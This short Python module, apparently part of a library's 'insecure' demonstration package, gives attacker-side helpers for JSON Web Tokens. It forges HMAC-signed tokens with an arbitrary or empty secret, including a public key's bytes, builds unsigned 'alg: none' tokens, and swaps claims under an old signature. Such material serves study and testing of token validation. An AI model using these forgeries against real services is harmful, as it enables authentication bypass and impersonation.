"""The attacker's side: tokens written by hand, with the standard library alone."""

from __future__ import annotations

import hmac
import json
from collections.abc import Mapping
from typing import Any

from jwtflow.insecure.parts import encode, parts


def forge(header: Mapping[str, Any], claims: Mapping[str, Any], *, secret: bytes) -> str:
    """A token under an HMAC-SHA256 signature with any bytes for a secret: a public key's, too.

    Args:
        header: as it shall stand there; nothing is added or checked.
        claims: the payload.
        secret: what the victim will take for the secret. It may be empty.
    """
    signing_input = f"{_segment(header)}.{_segment(claims)}"
    return f"{signing_input}.{encode(hmac.digest(secret, signing_input.encode(), 'sha256'))}"


def unsigned(claims: Mapping[str, Any], *, alg: str = "none", typ: str = "at+jwt") -> str:
    """A token with no signature at all (RFC 7519 §6): the third part is empty."""
    return f"{_segment({'alg': alg, 'typ': typ})}.{_segment(claims)}."


def replace_claims(encoded_jwt: str, **changes: Any) -> str:
    """The token with other claims under its old signature, which then fits no more."""
    header, claims, _, _ = parts(encoded_jwt)
    signature = encoded_jwt.rpartition(".")[2]
    return f"{_segment(header)}.{_segment({**claims, **changes})}.{signature}"


def _segment(members: Mapping[str, Any]) -> str:
    return encode(json.dumps(dict(members), separators=(",", ":")).encode())
